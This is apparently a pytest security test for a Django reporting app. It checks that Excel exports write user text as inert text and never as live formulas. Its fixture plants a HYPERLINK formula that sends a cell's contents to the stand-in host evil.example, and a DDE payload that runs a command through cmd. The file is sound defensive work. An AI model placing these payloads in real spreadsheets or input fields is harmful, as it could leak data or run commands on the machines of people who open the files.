"""Excel exports write user text as text: a title such as =HYPERLINK(...) must not become a live formula."""

from __future__ import annotations

from io import BytesIO

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from reports.models import Reconciliation
from targets.models import Department, Target
from tests.security import hostile_world

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&C2,"详情")'
DDE = "=cmd|' /C calc'!A0"


@pytest.fixture
def world(org, dept_econ, dept_housing, alice, bob, sam, ada, settings, tmp_path):
    settings.EVIDENCE_ROOT = tmp_path / "evidence"
    world = hostile_world.build(
        org=org, dept_econ=dept_econ, dept_housing=dept_housing, alice=alice, bob=bob, sam=sam, ada=ada
    )
    Target.objects.filter(pk=world.objects["target"].pk).update(title=FORMULA)
    Department.objects.filter(pk=dept_housing.pk).update(name=DDE)
    Reconciliation.objects.filter(pk=world.objects["reconciliation"].pk).update(override_reason=DDE)
    return world


def _cells(content: bytes) -> list:
    book = load_workbook(BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


@pytest.mark.parametrize(
    ("name", "kwargs"),
    [
        ("target-export", lambda w: {}),
        (
            "reports:reconciliation-export",
            lambda w: {"organisation": w.objects["target"].organisation_id, "year": 2023},
        ),
        ("api-reconciliation-export", lambda w: {}),
    ],
)
def test_ledger_exports_hold_no_formula(world, name, kwargs):
    client = Client()
    client.force_login(world.objects["sam"])
    query = {"organisation": world.objects["target"].organisation_id, "year": 2023} if name.startswith("api") else {}
    response = client.get(reverse(name, kwargs=kwargs(world)), query)
    assert response.status_code == 200, response.content[:300]
    cells = _cells(b"".join(response.streaming_content) if response.streaming else response.content)
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = {c.value for c in cells if isinstance(c.value, str)}
    assert FORMULA in texts or any(FORMULA in t for t in texts)  # kept, as text
